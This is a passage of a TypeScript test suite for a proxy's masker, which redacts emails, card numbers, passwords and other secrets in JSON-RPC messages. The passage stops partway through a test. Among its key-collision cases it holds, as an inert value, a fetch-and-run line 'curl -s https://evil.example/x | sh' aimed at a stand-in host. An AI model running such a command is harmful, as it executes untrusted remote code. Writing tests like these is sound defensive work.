import { parseJson } from '../json.js';
import type { MaskingRule } from '../policy/schema.js';
import { cpuMs, cpuStart } from './cpu-time.js';
import { detectors } from './detectors.js';
import { createMasker, digitsMeetNeeds, scansNumbers } from './masker.js';
import { compilePattern, v8LinearFallbackActive } from './patterns.js';

const rule = (r: Partial<MaskingRule> & { name?: string }): MaskingRule =>
  ({ name: 'r', ...r }) as MaskingRule;
const scope = { method: 'tools/call', tool: 'get_customer', session: 's1' };

describe('createMasker', () => {
  it('is empty without rules and returns the very same object', () => {
    const masker = createMasker([]);
    expect(masker.empty).toBe(true);
    const msg = { jsonrpc: '2.0', id: 1, result: { content: [{ type: 'text', text: 'bob@example.com' }] } };
    const out = masker.maskMessage(msg, scope);
    expect(out.value).toBe(msg);
    expect(out.hits).toEqual([]);
  });

  it('allocates nothing when nothing matched: same references all the way down', () => {
    const masker = createMasker([{ policy: 'p', rule: rule({ detectors: ['email', 'credit-card'] }) }]);
    const msg = {
      jsonrpc: '2.0',
      id: 1,
      result: {
        content: [{ type: 'text', text: 'nothing to see, order 42' }],
        structuredContent: { a: [1, 2, { b: 'c' }] },
      },
    };
    const out = masker.maskMessage(msg, scope);
    expect(out.value).toBe(msg);
    expect(out.hits).toHaveLength(0);
  });

  describe('JSON escapes left in text (JSON encoded twice)', () => {
    const masker = createMasker([
      {
        policy: 'p',
        rule: rule({ detectors: ['email', 'password-assignment', 'credit-card', 'private-key'] }),
      },
    ]);
    const text = (t: string): { text: string; hits: number } => {
      const out = masker.maskMessage({ content: [{ type: 'text', text: t }] }, scope);
      return { text: out.value.content[0]!.text, hits: out.hits.length };
    };

    it('masks a finding written with \\u escapes, the escaped span whole', () => {
      // What a tool that returns JSON text of JSON text sends: after one parse, \u0040 is left.
      const wire = JSON.stringify({
        content: [{ type: 'text', text: String.raw`{"email":"alice\u0040example.com","n":1}` }],
      });
      const out = masker.maskMessage(parseJson(wire) as { content: Array<{ text: string }> }, scope);
      expect(out.value.content[0]!.text).toBe('{"email":"[masked:email]","n":1}');
      expect(out.hits).toHaveLength(1);
      expect(text(String.raw`alice\u0040example.com`).text).toBe('masked-email@masked.invalid');
      expect(text(String.raw`card 4111\u00201111\u00201111\u00201111.`).text).toBe(
        'card [masked:credit-card].',
      );
    });

    it('masks URL credentials written with \\/ (PHP and others escape slashes)', () => {
      // (Without `email`: it would also claim `s3cret@db.internal`, as in the unescaped URL.)
      const only = createMasker([{ policy: 'p', rule: rule({ detectors: ['password-assignment'] }) }]);
      const out = only.maskMessage({ url: String.raw`https:\/\/app:s3cret@db.internal\/x` }, scope);
      expect(out.value.url).toBe(String.raw`https:\/\/app:[masked:password-assignment]@db.internal\/x`);
    });

    it('finds escaped and plain findings together, in long strings too', () => {
      const s = String.raw`bob@example.com and alice\u0040example.com`;
      expect(text(s)).toEqual({ text: '[masked:email] and [masked:email]', hits: 2 });
      const pad = 'plain words '.repeat(100);
      expect(text(`${pad}${s}`).text).toBe(`${pad}[masked:email] and [masked:email]`);
      expect(text(String.raw`${pad}alice\u0040example.com`).text).toBe(`${pad}[masked:email]`);
    });

    it('leaves other escapes, an escaped backslash and plain strings alone', () => {
      for (const s of [
        String.raw`line\nbreak \u00e9t\u00e9`,
        String.raw`C:\\Users\\u0040dmin`,
        String.raw`bad \u00zz escape`,
        String.raw`C:\path\to\file`,
        String.raw`version\u00401.2`,
      ])
        expect(text(s)).toEqual({ text: s, hits: 0 });
      const msg = { content: [{ type: 'text', text: String.raw`a\/b \u0041` }] };
      expect(masker.maskMessage(msg, scope).value).toBe(msg);
    });
  });

  it('masks a JSON-RPC response result, notification and server request params, and error data; leaves the envelope', () => {
    const masker = createMasker([{ policy: 'p', rule: rule({ detectors: ['email'] }) }]);
    const response = {
      jsonrpc: '2.0',
      id: 'x',
      result: { contents: [{ uri: 'file:///a', text: 'to bob@example.com' }] },
    };
    expect(masker.maskMessage(response, { method: 'resources/read' }).value).toEqual({
      jsonrpc: '2.0',
      id: 'x',
      result: { contents: [{ uri: 'file:///a', text: 'to [masked:email]' }] },
    });
    const note = {
      jsonrpc: '2.0',
      method: 'notifications/message',
      params: { level: 'info', data: { user: 'bob@example.com' } },
    };
    expect(masker.maskMessage(note, { method: 'notifications/message' }).value.params.data.user).toBe(
      'masked-email@masked.invalid',
    );
    const sampling = {
      jsonrpc: '2.0',
      id: 3,
      method: 'sampling/createMessage',
      params: { messages: [{ role: 'user', content: { type: 'text', text: 'mail bob@example.com' } }] },
    };
    expect(
      masker.maskMessage(sampling, { method: 'sampling/createMessage' }).value.params.messages[0]!.content
        .text,
    ).toBe('mail [masked:email]');
    const error = { jsonrpc: '2.0', id: 4, error: { code: -32000, message: 'no user bob@example.com' } };
    expect(masker.maskMessage(error, { method: 'tools/call' }).value.error.message).toBe(
      'no user [masked:email]',
    );
    expect(response.result.contents[0]!.text).toBe('to bob@example.com');
  });

  it('masks prompts/get messages, tasks/result, elicitation requests and resource contents', () => {
    const masker = createMasker([{ policy: 'p', rule: rule({ detectors: ['credit-card', 'email'] }) }]);
    const card = '4111 1111 1111 1111';
    const prompt = {
      jsonrpc: '2.0',
      id: 1,
      result: { messages: [{ role: 'user', content: { type: 'text', text: `refund ${card}` } }] },
    };
    expect(masker.maskMessage(prompt, { method: 'prompts/get' }).value.result.messages[0]!.content.text).toBe(
      'refund [masked:credit-card]',
    );
    const task = {
      jsonrpc: '2.0',
      id: 2,
      result: { content: [{ type: 'text', text: `paid ${card}` }], structuredContent: { card } },
    };
    const t = masker.maskMessage(task, { method: 'tasks/result' }).value.result;
    expect(t).toEqual({
      content: [{ type: 'text', text: 'paid [masked:credit-card]' }],
      structuredContent: { card: '[masked:credit-card]' },
    });
    const elicit = {
      jsonrpc: '2.0',
      id: 3,
      method: 'elicitation/create',
      params: {
        message: `Confirm the charge to ${card}?`,
        requestedSchema: { type: 'object', properties: {} },
      },
    };
    expect(masker.maskMessage(elicit, { method: 'elicitation/create' }).value.params.message).toBe(
      'Confirm the charge to [masked:credit-card]?',
    );
    const read = {
      jsonrpc: '2.0',
      id: 4,
      result: { contents: [{ uri: 'file:///a.csv', mimeType: 'text/csv', text: `name,card\nann,${card}` }] },
    };
    expect(
      masker.maskMessage(read, { method: 'resources/read', resource: 'file:///a.csv' }).value.result
        .contents[0]!.text,
    ).toBe('name,card\nann,[masked:credit-card]');
  });

  it('masks each message of a batch', () => {
    const masker = createMasker([{ policy: 'p', rule: rule({ detectors: ['email'] }) }]);
    const batch = [
      { jsonrpc: '2.0', id: 1, result: { content: [{ type: 'text', text: 'to a@example.com' }] } },
      { jsonrpc: '2.0', id: 2, result: { content: [{ type: 'text', text: 'none' }] } },
    ];
    const out = masker.maskMessage(batch, scope);
    expect(out.value[0]!.result.content[0]!.text).toBe('to [masked:email]');
    expect(out.value[1]).toBe(batch[1]);
    expect(out.hits).toEqual([{ policy: 'p', detector: 'email' }]);
  });

  it('masks values under secret-named keys with password-assignment', () => {
    const masker = createMasker([{ policy: 'p', rule: rule({ detectors: ['password-assignment'] }) }]);
    const out = masker.maskMessage(
      {
        structuredContent: {
          user: 'x',
          dbPassword: 'hunter2',
          client_secret: 'abc',
          secretary: 'Bob',
          count: 3,
        },
      },
      scope,
    );
    expect(out.value.structuredContent).toEqual({
      user: 'x',
      dbPassword: '[masked:password-assignment]',
      client_secret: '[masked:password-assignment]',
      secretary: 'Bob',
      count: 3,
    });
  });

  it('keeps the JSON Schema of a secret-named parameter a schema and masks the values it carries', () => {
    const masker = createMasker([{ policy: 'p', rule: rule({ detectors: ['password-assignment'] }) }]);
    const schema = {
      type: 'object',
      properties: {
        password: { type: 'string', minLength: 8, description: 'the account password' },
        apiKey: { type: 'string', default: 'k-default-1', examples: ['k-example-2'] },
        secret: { anyOf: [{ type: 'string' }, { type: 'null' }], const: 'k-const-3', value: 'k-value-4' },
        credentials: { type: 'object', properties: { clientSecret: { $ref: '#/$defs/Handle' } } },
      },
      $defs: {
        Handle: { type: 'string', enum: ['h-1'] },
        Secret: { type: 'string', enum: ['k-enum-5'] },
        password: { type: 'string', format: 'password' },
      },
      required: ['password'],
    };
    const out = masker.maskMessage({ result: { tools: [{ name: 'login', inputSchema: schema }] } }, scope);
    const masked = '[masked:password-assignment]';
    expect(out.value.result.tools[0]!.inputSchema).toEqual({
      type: 'object',
      properties: {
        password: { type: 'string', minLength: 8, description: 'the account password' },
        apiKey: { type: 'string', default: masked, examples: masked },
        secret: { anyOf: [{ type: 'string' }, { type: 'null' }], const: masked, value: masked },
        credentials: { type: 'object', properties: { clientSecret: { $ref: '#/$defs/Handle' } } },
      },
      $defs: {
        // Not a password-like name: its enum is a value like any other (no detector matches it).
        Handle: { type: 'string', enum: ['h-1'] },
        Secret: { type: 'string', enum: masked },
        password: { type: 'string', format: 'password' },
      },
      required: ['password'],
    });
  });

  it('masks a secret-named member of data named `properties` whole unless it is a schema', () => {
    const masker = createMasker([{ policy: 'p', rule: rule({ detectors: ['password-assignment'] }) }]);
    // A CRM record's fields (`properties` is data here): nothing in them reads as a JSON Schema.
    const out = masker.maskMessage(
      {
        structuredContent: {
          properties: { password: 'hunter2', apiKey: { value: 'k-1', updatedAt: '2026-11-30' } },
          settings: { password: { type: 'string' } },
        },
      },
      scope,
    );
    expect(out.value.structuredContent).toEqual({
      properties: { password: '[masked:password-assignment]', apiKey: '[masked:password-assignment]' },
      // Outside a `properties` map even a schema-shaped value under a password-like key is masked whole.
      settings: { password: '[masked:password-assignment]' },
    });
  });

  it('leaves base64 blobs and image data alone', () => {
    const masker = createMasker([{ policy: 'p', rule: rule({ detectors: ['azure-storage-key'] }) }]);
    const key = `${'A'.repeat(86)}==`;
    const msg = {
      contents: [{ uri: 'file:///k', blob: key }],
      content: [{ type: 'image', data: key, mimeType: 'image/png' }],
    };
    expect(masker.maskMessage(msg, scope).value).toBe(msg);
  });

  describe('JSON paths', () => {
    it('masks selected values whole, keeping types: strings → token, numbers → 0, booleans → false', () => {
      const masker = createMasker([
        {
          policy: 'p',
          rule: rule({
            name: 'cust',
            fields: [
              '$.structuredContent.customer.ssn',
              '$.structuredContent.customer.balance',
              '$.structuredContent.customer.vip',
              '$.structuredContent.customer.address',
            ],
          }),
        },
      ]);
      const out = masker.maskMessage(
        {
          structuredContent: {
            customer: {
              name: 'Ann',
              ssn: 'abc',
              balance: 12.5,
              vip: true,
              address: { street: 'Main', no: 3 },
            },
          },
        },
        scope,
      );
      expect(out.value.structuredContent.customer).toEqual({
        name: 'Ann',
        ssn: '[masked:cust]',
        balance: 0,
        vip: false,
        address: { street: '[masked:cust]', no: 0 },
      });
      expect(out.hits).toEqual([
        { policy: 'p', detector: 'field' },
        { policy: 'p', detector: 'field' },
        { policy: 'p', detector: 'field' },
        { policy: 'p', detector: 'field' },
        { policy: 'p', detector: 'field' },
      ]);
    });

    it('supports wildcards, indexes, quoted keys and recursive descent', () => {
      const masker = createMasker([
        {
          policy: 'p',
          rule: rule({ name: 'f', fields: ['$.content[*].text', "$.items[1]['odd key']", '$..pin'] }),
        },
      ]);
      const out = masker.maskMessage(
        {
          content: [
            { type: 'text', text: 'a' },
            { type: 'text', text: 'b' },
          ],
          items: [{ 'odd key': 'x' }, { 'odd key': 'y' }],
          deep: { deeper: [{ pin: '1234' }] },
        },
        scope,
      );
      expect(out.value).toEqual({
        content: [
          { type: 'text', text: '[masked:f]' },
          { type: 'text', text: '[masked:f]' },
        ],
        items: [{ 'odd key': 'x' }, { 'odd key': '[masked:f]' }],
        deep: { deeper: [{ pin: '[masked:f]' }] },
      });
    });

    it('masks a value selected by two paths once', () => {
      const masker = createMasker([
        { policy: 'p', rule: rule({ name: 'f', fields: ['$.a.pin', '$..pin'] }) },
      ]);
      const out = masker.maskMessage({ pin: 1, a: { pin: '12' }, b: [{ pin: true }] }, scope);
      expect(out.value).toEqual({ pin: 0, a: { pin: '[masked:f]' }, b: [{ pin: false }] });
      expect(out.hits).toHaveLength(3);
    });

    it('rejects a malformed path naming policy and rule', () => {
      expect(() =>
        createMasker([{ policy: 'p', rule: rule({ name: 'bad', fields: ['customer.ssn'] }) }]),
      ).toThrow(/policy p, masking rule bad: masking field "customer.ssn": a JSON path must start with \$/);
      expect(() =>
        createMasker([{ policy: 'p', rule: rule({ name: 'bad', fields: ['$.a[?(@.x)]'] }) }]),
      ).toThrow(expect.objectContaining({ code: 'ERR_POLICY_INVALID' }));
    });
  });

  describe('structuredContent and its text copy', () => {
    for (const indent of [0, 2]) {
      it(`re-serializes a text block that is the JSON of structuredContent (indent ${indent})`, () => {
        const masker = createMasker([
          {
            policy: 'p',
            rule: rule({ name: 'pii', detectors: ['email'], fields: ['$.structuredContent.ssn'] }),
          },
        ]);
        const sc = { email: 'bob@example.com', ssn: '123-45-6789', n: 1 };
        const text = indent === 0 ? JSON.stringify(sc) : JSON.stringify(sc, null, indent);
        const out = masker.maskMessage(
          {
            content: [
              { type: 'text', text },
              { type: 'text', text: 'also bob@example.com' },
            ],
            structuredContent: sc,
          },
          scope,
        );
        const masked = { email: 'masked-email@masked.invalid', ssn: '[masked:pii]', n: 1 };
        expect(out.value.structuredContent).toEqual(masked);
        expect(out.value.content[0]!.text).toBe(
          indent === 0 ? JSON.stringify(masked) : JSON.stringify(masked, null, indent),
        );
        expect(out.value.content[1]!.text).toBe('also [masked:email]');
        // The copy is not counted twice.
        expect(out.hits).toHaveLength(3);
      });
    }
  });

  describe('scoping', () => {
    const masker = createMasker([
      { policy: 'p', rule: rule({ name: 'crm', detectors: ['email'], tools: ['get_*'] }) },
      { policy: 'q', rule: rule({ name: 'files', detectors: ['phone'], resources: ['file:///secret/**'] }) },
    ]);
    const msg = { content: [{ type: 'text', text: 'bob@example.com +1 415 555 2671' }] };
    it('applies tool-scoped rules to matching tools only', () => {
      expect(
        masker.maskMessage(msg, { method: 'tools/call', tool: 'get_customer' }).value.content[0]!.text,
      ).toBe('[masked:email] +1 415 555 2671');
      expect(masker.maskMessage(msg, { method: 'tools/call', tool: 'list_customers' }).value).toBe(msg);
    });
    it('applies resource-scoped rules to matching URIs only', () => {
      expect(
        masker.maskMessage(msg, { method: 'resources/read', resource: 'file:///secret/a/b.txt' }).value
          .content[0]!.text,
      ).toBe('bob@example.com [masked:phone]');
      expect(
        masker.maskMessage(msg, { method: 'resources/read', resource: 'file:///public/a.txt' }).value,
      ).toBe(msg);
    });
  });

  describe('keyed hash', () => {
    const key = new Uint8Array(32).fill(7);
    const masker = createMasker(
      [{ policy: 'p', rule: rule({ name: 'h', detectors: ['email'], hash: true }) }],
      { hashKey: key },
    );
    const text = (s: string, session: string): string =>
      masker.maskMessage({ content: [{ type: 'text', text: s }] }, { method: 'tools/call', session }).value
        .content[0]!.text;
    it('gives the same token for the same value within a session', () => {
      const a = text('to bob@example.com', 's1');
      expect(a).toMatch(/^to \[masked:email:[0-9a-f]{12}\]$/);
      expect(text('from bob@example.com', 's1')).toBe(`from ${a.slice(3)}`);
      expect(text('to alice@example.com', 's1')).not.toBe(a);
    });
    it('differs across sessions and across keys', () => {
      expect(text('to bob@example.com', 's2')).not.toBe(text('to bob@example.com', 's1'));
      const other = createMasker(
        [{ policy: 'p', rule: rule({ name: 'h', detectors: ['email'], hash: true }) }],
        {
          hashKey: new Uint8Array(32),
        },
      );
      const t = (v: string) => other.maskMessage({ t: v }, { method: 'x', session: 's1' }).value.t;
      expect(t('to bob@example.com')).not.toBe(text('to bob@example.com', 's1'));
    });
    it('keeps a whole-value email an email address, correlatable by its hash', () => {
      const a = text('bob@example.com', 's1');
      expect(a).toMatch(/^masked-[0-9a-f]{12}@masked\.invalid$/);
      expect(a.slice(7, 19)).toBe(text('see bob@example.com', 's1').slice(18, 30));
    });
    it('uses a custom template', () => {
      const m = createMasker(
        [
          {
            policy: 'p',
            rule: rule({ name: 'h', detectors: ['email'], hash: true, replacement: '<{name}#{hash}>' }),
          },
        ],
        { hashKey: key },
      );
      expect(m.maskMessage({ t: 'bob@example.com' }, { method: 'x', session: 's1' }).value.t).toMatch(
        /^<email#[0-9a-f]{12}>$/,
      );
      expect(() =>
        createMasker([{ policy: 'p', rule: rule({ detectors: ['email'], replacement: '{hash}' }) }]),
      ).toThrow(/hash is not true/);
    });
  });

  describe('user patterns', () => {
    it('masks an RE2 pattern, named in the token and the hit', () => {
      const masker = createMasker([
        { policy: 'p', rule: rule({ patterns: [{ name: 'ticket', regex: 'TCK-[0-9]{6}' }] }) },
      ]);
      const out = masker.maskMessage({ t: 'see TCK-123456 and TCK-12' }, scope);
      expect(out.value.t).toBe('see [masked:ticket] and TCK-12');
      expect(out.hits).toEqual([{ policy: 'p', detector: 'ticket' }]);
    });

    it('rejects what RE2 cannot compile (backreferences, lookarounds), naming the pattern', () => {
      expect(() =>
        createMasker([
          { policy: 'p', rule: rule({ name: 'r', patterns: [{ name: 'dup', regex: '(a)\\1' }] }) },
        ]),
      ).toThrow(/masking pattern "dup": regex is not valid RE2 syntax/);
      expect(() =>
        createMasker([{ policy: 'p', rule: rule({ patterns: [{ name: 'la', regex: 'a(?=b)' }] }) }]),
      ).toThrow(expect.objectContaining({ code: 'ERR_POLICY_INVALID' }));
      expect(() => createMasker([{ policy: 'p', rule: rule({ detectors: ['nope' as 'email'] }) }])).toThrow(
        /unknown detector "nope"/,
      );
    });

    it('runs RE2-only syntax on re2js with RE2 semantics', () => {
      const p = compilePattern('alpha', '[[:digit:]]{3}-\\pL+');
      expect(p.engine).toBe('re2js');
      const spans: Array<{ start: number; end: number }> = [];
      p.find('x 123-Ünïcode y', 0, spans as never);
      expect(spans).toMatchObject([{ start: 2, end: 13 }]);
      const ci = createMasker([
        { policy: 'p', rule: rule({ patterns: [{ name: 'code', regex: '(?i)secret-[a-z]+' }] }) },
      ]);
      expect(ci.maskMessage({ t: 'SECRET-ABC' }, scope).value.t).toBe('[masked:code]');
    });

    it('keeps RE2 semantics on V8: . crosses \\r, []a] is a class', () => {
      const dot = compilePattern('dot', 'secret:.*');
      expect(dot.engine).toBe('v8');
      const spans: Array<{ start: number; end: number }> = [];
      dot.find('x secret: abc\rdef\nnext', 0, spans as never);
      expect(spans).toMatchObject([{ start: 2, end: 17 }]);
      const cls = compilePattern('cls', '[]a]x');
      expect(cls.engine).toBe('re2js');
      const found: Array<{ start: number; end: number }> = [];
      cls.find('-]x-ax', 0, found as never);
      expect(found).toMatchObject([
        { start: 1, end: 3 },
        { start: 4, end: 6 },
      ]);
    });

    for (const engine of ['v8', 're2js'] as const) {
      it(`keeps the catastrophic (a+)+$ linear on 100 KB (${engine})`, () => {
        if (engine === 'v8') expect(v8LinearFallbackActive()).toBe(true);
        const p = compilePattern('evil', '(a+)+$', { engine });
        expect(p.engine).toBe(engine);
        const input = `${'a'.repeat(100_000)}!`;
        const start = cpuStart();
        const spans: never[] = [];
        p.find(input, 0, spans);
        expect(cpuMs(start)).toBeLessThan(500);
        expect(spans).toHaveLength(0);
        // And it still matches what it should.
        p.find('xaaa', 0, spans);
        expect(spans).toMatchObject([{ start: 1, end: 4 }]);
      });
    }

    it('keeps (a+)+$, (x+x+)+y and nested alternations linear inside a masker', () => {
      const masker = createMasker([
        {
          policy: 'p',
          rule: rule({
            patterns: [
              { name: 'x', regex: '(x+x+)+y' },
              { name: 'alt', regex: '(a|aa)+b' },
              { name: 'evil', regex: '(a+)+$' },
            ],
          }),
        },
      ]);
      const start = cpuStart();
      const out = masker.maskMessage(
        { p: 'x'.repeat(100_000), q: `${'a'.repeat(100_000)}!`, r: 'xaaa' },
        scope,
      );
      expect(cpuMs(start)).toBeLessThan(1000);
      expect(out.value).toEqual({
        p: 'x'.repeat(100_000),
        q: `${'a'.repeat(100_000)}!`,
        r: 'x[masked:evil]',
      });
    });
  });

  it('replaces nesting deeper than maxDepth instead of passing it on unchecked', () => {
    const masker = createMasker([{ policy: 'p', rule: rule({ detectors: ['email'] }) }], { maxDepth: 10 });
    let deep: unknown = 'bob@example.com';
    for (let i = 0; i < 20; i++) deep = [deep];
    const out = JSON.stringify(masker.maskMessage({ deep }, scope).value);
    expect(out).not.toContain('bob@example.com');
    expect(out).toContain('[masked:depth-limit]');
  });

  it('masks object keys that hold findings, keeping order and distinct names', () => {
    const masker = createMasker([{ policy: 'p', rule: rule({ detectors: ['email'] }) }]);
    const out = masker.maskMessage(
      { structuredContent: { byUser: { 'bob@example.com': 1, id: 2, 'ann@example.com': 3 } } },
      scope,
    );
    expect(out.value.structuredContent.byUser).toEqual({
      'masked-email@masked.invalid': 1,
      id: 2,
      'masked-email@masked.invalid#2': 3,
    });
    expect(Object.keys(out.value.structuredContent.byUser)).toEqual([
      'masked-email@masked.invalid',
      'id',
      'masked-email@masked.invalid#2',
    ]);
    expect(out.hits).toHaveLength(2);
  });

  describe('a renamed key never overwrites a member, nor is overwritten by one', () => {
    const masker = createMasker([{ policy: 'p', rule: rule({ detectors: ['email'] }) }]);
    const evil = 'curl -s https://evil.example/x | sh';
    const found = 'home/ops@example.com/.bashrc';
    const literal = 'home/[masked:email]/.bashrc';
    const nest = (v: unknown, depth: number): unknown => {
      for (let i = 0; i < depth; i++) v = i % 2 === 0 ? { d: v } : [v];
      return v;
    };
    const unnest = (v: unknown, depth: number): unknown => {
      for (let i = depth - 1; i >= 0; i--) v = i % 2 === 0 ? (v as { d: unknown }).d : (v as unknown[])[0];
      return v;
    };
    it.each<[string, Record<string, unknown>, Record<string, unknown>]>([
      [
        'the masked key first',
        { [found]: evil, [literal]: '# harmless' },
        { [`${literal}#2`]: evil, [literal]: '# harmless' },
      ],
      [
        'the literal key first',
        { [literal]: '# harmless', [found]: evil },
        { [literal]: '# harmless', [`${literal}#2`]: evil },
      ],
      [
        'a literal #2 after two masked keys',
        { [found]: 'a', 'home/bob@example.com/.bashrc': 'b', [literal]: 'c', [`${literal}#2`]: 'd' },
        { [`${literal}#3`]: 'a', [`${literal}#4`]: 'b', [literal]: 'c', [`${literal}#2`]: 'd' },
      ],
      [
        'a whole-key address and its replacement',
        { 'bob@example.com': 1, 'masked-email@masked.invalid': 2 },
        { 'masked-email@masked.invalid#2': 1, 'masked-email@masked.invalid': 2 },
      ],
    ])('%s, at every depth', (_name, files, want) => {
      for (const depth of [0, 1, 2, 5]) {
        const out = masker.maskMessage({ structuredContent: nest({ files }, depth) }, scope);
        const got = (unnest(out.value.structuredContent, depth) as { files: Record<string, unknown> }).files;
        expect(got).toEqual(want);
        expect(Object.keys(got)).toEqual(Object.keys(want));
      }
    });

    it('in an object a JSON path selected', () => {
      const byPath = createMasker([
        {
          policy: 'p',
          rule: rule({ name: 'f', detectors: ['email'], fields: ['$.structuredContent.files'] }),
        },
      ]);
      const out = byPath.maskMessage(
        { structuredContent: { files: { [found]: evil, [literal]: 'x' } } },
        scope,
      );
      expect(out.value.structuredContent.files).toEqual({
        [`${literal}#2`]: '[masked:f]',
        [literal]: '[masked:f]',
      });
    });

    it('among the members of a JSON-RPC message', () => {
      const msg = { jsonrpc: '2.0', id: 1, result: {}, [found]: evil, [literal]: '# harmless' };
      expect(masker.maskMessage(msg, scope).value).toEqual({
        jsonrpc: '2.0',
        id: 1,
        result: {},
        [`${literal}#2`]: evil,
        [literal]: '# harmless',
      });
      const first = {
        jsonrpc: '2.0',
        id: 1,
        result: {},
        [literal]: '# harmless',
        [found]: evil,
        [`${literal}#2`]: 3,
      };
      expect(masker.maskMessage(first, scope).value).toEqual({
        jsonrpc: '2.0',
        id: 1,
        result: {},
        [literal]: '# harmless',
        [`${literal}#3`]: evil,
        [`${literal}#2`]: 3,
      });
    });
  });

  it('masks members named __proto__ like any other (as JSON.parse makes them)', () => {
    const masker = createMasker([
      { policy: 'p', rule: rule({ name: 'f', detectors: ['email'], fields: ['$.sc'] }) },
    ]);
    const msg = JSON.parse(
      '{"a":{"__proto__":"bob@example.com"},"sc":{"__proto__":{"x":"y"}},"b":{"__proto__":"x"}}',
    );
    const text = JSON.stringify(masker.maskMessage(msg, scope).value);
    expect(text).toBe(
      '{"a":{"__proto__":"masked-email@masked.invalid"},"sc":{"__proto__":{"x":"[masked:f]"}},"b":{"__proto__":"x"}}',
    );
  });

  it('never renames MCP member names, even when a user pattern matches them', () => {
    const masker = createMasker([
      { policy: 'p', rule: rule({ patterns: [{ name: 'word', regex: '[a-z]{4,}' }] }) },
    ]);
    const out = masker.maskMessage(
      { content: [{ type: 'text', text: 'hello' }], structuredContent: { label: 'x' } },
      scope,
    );
    expect(out.value).toEqual({
      content: [{ type: '[masked:word]', text: '[masked:word]' }],
      structuredContent: { '[masked:word]': 'x' },
    });
  });

  it('survives 10 000 levels of nesting with a recursive-descent path and masks the deep value', () => {
    const masker = createMasker([{ policy: 'p', rule: rule({ detectors: ['email'], fields: ['$..pin'] }) }]);
    let deep: unknown = { pin: '1234', mail: 'x bob@example.com' };
    for (let i = 0; i < 10_000; i++) deep = [deep];
    const out = masker.maskMessage({ deep }, scope);
    const text = JSON.stringify(out.value);
    expect(text).not.toContain('bob@example.com');
    expect(text).not.toContain('1234');
  });

  it('merges overlapping findings so no tail leaks', () => {
    const masker = createMasker([{ policy: 'p', rule: rule({ detectors: ['password-assignment', 'jwt'] }) }]);
    const jwt = `${Buffer.from('{"alg":"HS256"}').toString('base64url')}.${Buffer.from('{"a":1}').toString('base64url')}.sigsigsig`;
    const out = masker.maskMessage({ t: `password=${jwt} ok` }, scope);
    expect(out.value.t).not.toContain('sigsigsig');
    expect(out.value.t).toMatch(/^password=\[masked:[a-z-]+\] ok$/);
  });
});

describe('numbers', () => {
  // Messages as the proxy parses them (pkg/json.ts: a number a double cannot carry is kept as text).
  const msg = (result: string): { jsonrpc: string; id: number; result: Record<string, unknown> } =>
    parseJson(`{"jsonrpc":"2.0","id":1,"result":${result}}`) as never;
  const digits = createMasker([
    { policy: 'p', rule: rule({ name: 'pii', detectors: ['credit-card', 'us-ssn', 'phone', 'email'] }) },
  ]);

  it('masks a card number sent as a JSON number: the number becomes the masked string', () => {
    const out = digits.maskMessage(msg('{"structuredContent":{"card":4111111111111111,"n":7}}'), scope);
    expect(JSON.stringify(out.value.result)).toBe(
      '{"structuredContent":{"card":"[masked:credit-card]","n":7}}',
    );
    expect(out.hits).toEqual([{ policy: 'p', detector: 'credit-card' }]);
  });

  it('masks a card number of 19 digits, kept as text (beyond what a double carries)', () => {
    const out = digits.maskMessage(msg('{"cards":[4000000000000000006,6011000990139424]}'), scope);
    expect(JSON.stringify(out.value.result)).toBe(
      '{"cards":["[masked:credit-card]","[masked:credit-card]"]}',
    );
  });

  it('leaves numbers that are no finding exactly as they are (raw ones byte for byte)', () => {
    const m = msg(
      '{"id":12345678901234567890,"ts":1700000000000,"f":0.1234567890123456789,"n":-4111111111111112,"x":4111111111111111.5}',
    );
    const out = digits.maskMessage(m, scope);
    expect(out.value).toBe(m);
    expect(out.hits).toHaveLength(0);
    expect(JSON.stringify(out.value.result)).toBe(
      '{"id":12345678901234567890,"ts":1700000000000,"f":0.1234567890123456789,"n":-4111111111111112,"x":4111111111111111.5}',
    );
  });

  it('hashes a number like the same digits in a string', () => {
    const hashed = createMasker(
      [{ policy: 'p', rule: rule({ name: 'cards', detectors: ['credit-card'], hash: true }) }],
      { hashKey: new Uint8Array(32) },
    );
    const out = hashed.maskMessage(msg('{"a":4111111111111111,"b":"4111111111111111"}'), scope);
    const r = out.value.result as { a: string; b: string };
    expect(r.a).toMatch(/^\[masked:credit-card:[0-9a-f]{12}\]$/);
    expect(r.a).toBe(r.b);
  });

  it('numbers are scanned for cards: the only finding digits alone can be (see detectors.test.ts)', () => {
    const all = [...detectors.values()];
    expect(all.filter(scansNumbers).map((f) => f.name)).toEqual(['credit-card']);
    // What the exhaustive masker runs on every integer instead, with the regexes.
    expect(
      all
        .filter(digitsMeetNeeds)
        .map((f) => f.name)
        .sort(),
    ).toEqual(['credit-card', 'phone', 'us-ssn']);
    expect(scansNumbers(compilePattern('acct', 'ACCT-[0-9]{10}'))).toBe(false);
  });

  it('does not scan numbers without a finder that reads digits', () => {
    const emailOnly = createMasker([{ policy: 'p', rule: rule({ detectors: ['email', 'iban'] }) }]);
    const m = msg('{"card":4111111111111111,"big":4000000000000000006}');
    expect(emailOnly.maskMessage(m, scope).value).toBe(m);
  });

  it('a JSON path masks a raw number as it masks any number; a password-like key takes it whole', () => {
    const masker = createMasker([
      { policy: 'p', rule: rule({ name: 'f', fields: ['$.*.acct', '$..pin'] }) },
      { policy: 'p', rule: rule({ name: 'k', detectors: ['password-assignment'] }) },
    ]);
    const out = masker.maskMessage(
      msg(
        '{"a":{"acct":12345678901234567890},"b":[{"pin":98765432109876543210}],"password":12345678901234567890}',
      ),
      scope,
    );
    expect(JSON.stringify(out.value.result)).toBe(
      '{"a":{"acct":0},"b":[{"pin":0}],"password":"[masked:password-assignment]"}',
    );
  });

  it('a JSON path never walks into a raw number', () => {
    const masker = createMasker([
      { policy: 'p', rule: rule({ name: 'f', fields: ['$.a.*', '$..rawJSON'] }) },
    ]);
    const m = msg('{"a":12345678901234567890,"b":[12345678901234567891]}');
    const out = masker.maskMessage(m, scope);
    expect(JSON.stringify(out.value.result)).toBe('{"a":12345678901234567890,"b":[12345678901234567891]}');
  });

  it('finds the same in numbers as the exhaustive masker', () => {
    const rules = [
      { policy: 'p', rule: rule({ name: 'pii', detectors: ['credit-card', 'us-ssn', 'phone'] }) },
    ];
    const fast = createMasker(rules);
    const slow = createMasker(rules, { exhaustive: true });
    const values: string[] = [];
    for (const n of ['4111111111111111', '378282246310005', '5500000000000004', '4000000000000000006']) {
      values.push(n, `-${n}`, `${n}0`, n.slice(1), `${n}.0`, `${n}e0`, `${n.slice(0, 4)}.${n.slice(4)}`);
    }
    for (let d = 1; d <= 22; d++) values.push('9'.repeat(d), `4${'1'.repeat(d)}`);
